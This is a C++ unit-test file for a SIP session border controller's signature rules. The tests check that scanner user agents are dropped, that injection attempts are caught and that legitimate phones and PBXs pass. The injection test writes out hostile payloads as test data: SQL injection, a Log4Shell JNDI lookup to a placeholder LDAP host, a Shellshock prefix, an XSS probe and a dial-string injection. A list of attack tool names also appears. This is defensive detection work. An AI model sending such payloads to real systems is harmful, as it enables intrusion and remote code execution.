// The signatures that we ship: attackers' messages match, honest ones do not.
#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iterator>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "policy/signatures/signature_file.h"
#include "tests/dataplane/sip/sample.h"

namespace sbc::policy {
namespace {

/// Loaded once: it compiles for a while.
SignatureFile* example = nullptr;

class ExampleFile : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    example = new SignatureFile(load_signature_file(SBC_SOURCE_DIR "/config/examples/signatures.yaml"));
  }
  static void TearDownTestSuite() { delete example; }
  void SetUp() override {
    for (const config::Problem& problem : example->problems) ADD_FAILURE() << config::problem_text(problem);
    ASSERT_NE(set.database(), nullptr);
    ASSERT_TRUE(set.fit(scratch));
  }
  /// Of the signature that decides; 0 = none matches.
  uint32_t id(std::string_view message) {
    SignatureVerdict verdict = set.scan(scratch, message);
    return verdict.signature ? verdict.signature->id : 0;
  }

  const SignatureSet& set = example->set;
  match::Scratch scratch;
};

/// An ordinary INVITE, with the lines that a test changes.
std::string invite(std::string_view agent, std::string_view uri = "sip:+493012345@sbc.example",
                   std::string_view from = "\"Alice O'Brien\" <sip:alice@198.51.100.7>;tag=88sja8x") {
  std::string message = "INVITE ";
  message.append(uri).append(
      " SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.7:5060;branch=z9hG4bK776asdhds;rport\r\nFrom: ");
  message.append(from).append(
      "\r\nTo: <sip:+493012345@sbc.example>\r\nCall-ID: a84b4c76e66710@198.51.100.7\r\n");
  message.append(
      "CSeq: 1 INVITE\r\nContact: <sip:alice@198.51.100.7:5060>\r\nMax-Forwards: 70\r\nUser-Agent: ");
  message.append(agent).append("\r\nContent-Type: application/sdp\r\nContent-Length: 125\r\n\r\n");
  message.append("v=0\r\no=- 1 1 IN IP4 198.51.100.7\r\ns=-\r\nc=IN IP4 198.51.100.7\r\nt=0 0\r\n");
  message.append("m=audio 4000 RTP/AVP 8 0 101\r\na=rtpmap:101 telephone-event/8000\r\n");
  return message;
}

TEST_F(ExampleFile, HasNoTwoSignaturesThatMeanTheSame) {
  std::vector<std::string> seen;
  for (const Signature& signature : set.signatures())
    if (!signature.regex)
      seen.push_back(signature.pattern + '|' + std::to_string(int(signature.where)) + signature.header_name);
  std::sort(seen.begin(), seen.end());
  EXPECT_EQ(std::adjacent_find(seen.begin(), seen.end()), seen.end());
}

TEST_F(ExampleFile, EverySignatureMatchesItsOwnPatternInItsPlace) {
  for (const Signature& signature : set.signatures()) {
    if (signature.regex) continue;
    std::string message = "INVITE sip:a@b SIP/2.0\r\nMax-Forwards: 70\r\n\r\n";
    if (signature.where == Where::start_line) message = signature.pattern + "\r\n\r\n";
    if (signature.where == Where::header)
      message.insert(24, signature.header_name + ": " + signature.pattern + "\r\n");
    if (signature.where == Where::body || signature.where == Where::anywhere) message += signature.pattern;
    EXPECT_NE(id(message), 0u) << signature.id << ' ' << signature.message;
  }
}

TEST_F(ExampleFile, StopsScannersByTheirName) {
  for (std::string_view agent :
       {"friendly-scanner", "sipvicious", "sundayddr", "sipcli/v1.8", "VaxSIPUserAgent/3.1", "sip-scan",
        "pplsip", "iWar", "Gulp", "smap 0.6.0", "SIVuS", "siparmyknife", "Nmap NSE", "voiphopper", "sipscan",
        "Viproy Penetration Testing Kit - Test Agent"}) {
    SignatureVerdict match = set.scan(scratch, invite(agent));
    ASSERT_NE(match.signature, nullptr) << agent;
    EXPECT_EQ(match.signature->action, Action::drop) << agent;
  }
}

TEST_F(ExampleFile, StopsSipViciousWhenItHidesItsName) {
  EXPECT_EQ(id(invite("Linksys-SPA942", "sip:100@198.51.100.1",
                      "\"sipvicious\"<sip:100@1.1.1.1>;tag=6336393336623465313363340131363632303036333031")),
            1003u);
}

TEST_F(ExampleFile, AddsHintsUpToADrop) {
  std::string hint = invite("Softphone 1.0", "sip:100@198.51.100.1", "\"9000\" <sip:9000@1.1.1.1>;tag=1");
  EXPECT_EQ(set.scan(scratch, hint).reason, Reason::none);
  std::string both = hint;
  both.replace(both.find("To: <sip:+493012345@sbc.example>"), 32, "To: <sip:9000@1.1.1.1>");
  EXPECT_EQ(set.scan(scratch, both).reason, Reason::signature_score);
}

TEST_F(ExampleFile, AnswersDiagnosisTools) {
  SignatureVerdict match = set.scan(scratch, invite("sipsak 0.9.8.1"));
  ASSERT_NE(match.signature, nullptr);
  EXPECT_EQ(match.signature->action, Action::reject);
}

TEST_F(ExampleFile, StopsInjectionPlainAndEncoded) {
  EXPECT_NE(id(invite("x", "sip:1%27%20OR%20%271%27=%271@b")), 0u);
  EXPECT_NE(id(invite("x", "sip:a@b", "<sip:x%27%3bdrop%20table%20subscriber@b>;tag=1")), 0u);
  EXPECT_NE(id(invite("x", "sip:$%7Bjndi:ldap://192.0.2.1/a%7D@b")), 0u);
  EXPECT_NE(id(invite("${jndi:ldap://192.0.2.1/a}")), 0u);
  EXPECT_NE(id(invite("() { :;}; /bin/true")), 0u);
  EXPECT_NE(id(invite("x", "sip:100&SIP/trunk@b")), 0u);
  EXPECT_NE(id(invite("x", "sip:%252e@b", "<script>alert(1)</script> <sip:a@b>;tag=1")), 0u);
}

TEST_F(ExampleFile, StopsNmapsServiceProbe) {
  EXPECT_EQ(id("OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\nFrom: <sip:nm@nm>;tag=root\r\n"
               "To: <sip:nm2@nm2>\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\nMax-Forwards: "
               "70\r\nContent-Length: 0\r\n"
               "Contact: <sip:nm@nm>\r\nAccept: application/sdp\r\n\r\n"),
            2003u);
}

TEST_F(ExampleFile, LetsHonestUserAgentsPass) {
  for (std::string_view agent : {"",
                                 "SIPp",
                                 "sipp/v3.6.1",
                                 "baresip v1.0.0 (x86_64/Linux)",
                                 "Linphone/5.1.2 (belle-sip/5.2.6)",
                                 "Zoiper rv2.10.18.2",
                                 "Z 5.6.4 v2.10.20.4_1",
                                 "MicroSIP/3.21.3",
                                 "PJSUA v2.12.1 Linux-5.10/x86_64/glibc-2.31",
                                 "Asterisk PBX 20.5.0",
                                 "FPBX-16.0.40.4(18.9.0)",
                                 "FreeSWITCH-mod_sofia/1.10.9-release",
                                 "kamailio (5.6.3 (x86_64/linux))",
                                 "OpenSIPS (3.2.4 (x86_64/linux))",
                                 "Cisco-SIPGateway/IOS-15.4.3.M3",
                                 "Cisco/SPA504G-7.6.2b",
                                 "Yealink SIP-T46S 66.86.0.15",
                                 "PolycomVVX-VVX_411-UA/5.9.5.0614",
                                 "snomD735/10.1.127.10",
                                 "Grandstream GXP2170 1.0.11.64",
                                 "AVM FRITZ!Box 7590 (UI) 154.07.29 (Jan 12 2022)",
                                 "eyeBeam release 1105a",
                                 "X-Lite release 5.8.3",
                                 "Bria 6.5.1",
                                 "Jitsi2.10.5550Linux",
                                 "Twinkle/1.10.2",
                                 "Ribbon SBC 9.2",
                                 "PBX Manager 3",
                                 "Voip Gateway (wget 1.2; curl 7.68.0)",
                                 "Yate/6.1.0",
                                 "Cisco-SIPGateway/IOS-12.x",
                                 "Oracle/VM-ESD-1",
                                 "Avaya CM/R018x.01.0.890.0",
                                 "MSTeams v.2023.9.20.1"})
    EXPECT_EQ(id(invite(agent)), 0u) << agent;
}

TEST_F(ExampleFile, LetsSippPass) {  // its built-in scenario and default Call-ID
  EXPECT_EQ(id("INVITE sip:service@10.0.0.1:5060 SIP/2.0\r\nVia: SIP/2.0/UDP "
               "10.0.0.2:5060;branch=z9hG4bK-1234-1-0\r\n"
               "From: sipp <sip:sipp@10.0.0.2:5060>;tag=1234SIPpTag001\r\nTo: service "
               "<sip:service@10.0.0.1:5060>\r\n"
               "Call-ID: 1-1234@10.0.0.2\r\nCSeq: 1 INVITE\r\nContact: "
               "sip:sipp@10.0.0.2:5060\r\nMax-Forwards: 70\r\n"
               "Subject: Performance Test\r\nContent-Type: application/sdp\r\nContent-Length: 129\r\n\r\n"
               "v=0\r\no=user1 53655765 2353687637 IN IP4 10.0.0.2\r\ns=-\r\nc=IN IP4 10.0.0.2\r\nt=0 0\r\n"
               "m=audio 6000 RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n"),
            0u);
}

TEST_F(ExampleFile, LetsOddButHonestValuesPass) {
  EXPECT_EQ(id(invite("x", "sip:%61lice%20o%27brien@b;transport=udp?subject=project%20x&priority=urgent")),
            0u);
  EXPECT_EQ(id(invite("x", "tel:+1-201-555-0123;phone-context=example.com")), 0u);
  EXPECT_EQ(id(invite("x", "sip:*72%23@b", "\"Drop Table Inc. (Sales)\" <sip:a@b>;tag=1")), 0u);
  EXPECT_EQ(id(invite("x", "sip:a@b", "\"Union & Select, 100%\" <sip:a@b>;tag=1")), 0u);
  EXPECT_EQ(id(invite("x", "sip:a@b", "\"Rock 'n' Roll -- or Jazz (Live)\" <sip:a@b>;tag=1")), 0u);
  EXPECT_EQ(id(invite("x", "sip:%2B493012345@b;user=phone", "\"Hôtel Côte d'Or\" <sip:d%27or@b>;tag=a%n%s")),
            0u);
}

/// What matches in each file of a folder; how many files there were.
size_t scan_folder(const std::filesystem::path& folder, const std::function<uint32_t(std::string_view)>& id) {
  size_t messages = 0;
  for (const auto& found : std::filesystem::recursive_directory_iterator(folder)) {
    if (!found.is_regular_file()) continue;
    std::ifstream file(found.path(), std::ios::binary);
    std::string message{std::istreambuf_iterator<char>(file), {}};
    EXPECT_EQ(id(message), 0u) << found.path();
    ++messages;
  }
  return messages;
}

TEST_F(ExampleFile, LetsTheProjectsOwnMessagesPass) {
  EXPECT_EQ(id(sip::phone_invite()), 0u);
  EXPECT_EQ(id(sip::small_request()), 0u);
  EXPECT_EQ(id(sip::small_response()), 0u);
  for (const char* folder :
       {"tests/fuzz/corpus/message", "tests/fuzz/corpus/round_trip", "tests/net/scenarios"}) {
    EXPECT_GT(scan_folder(std::filesystem::path(SBC_SOURCE_DIR) / folder,
                          [&](std::string_view message) { return id(message); }),
              0u);
  }
}

/// RFC 4475 and RFC 5118: whatever an SBC owes an answer must reach the parser.
TEST_F(ExampleFile, LetsTortureMessagesPass) {
  const char* folder = std::getenv("SBC_TORTURE");
  if (folder == nullptr) GTEST_SKIP() << "SBC_TORTURE names no folder of torture messages";
  for (const char* rfc : {"rfc4475", "rfc5118"}) {
    EXPECT_GT(scan_folder(std::filesystem::path(folder) / rfc,
                          [&](std::string_view message) { return id(message); }),
              0u);
  }
}

}  // namespace
}  // namespace sbc::policy
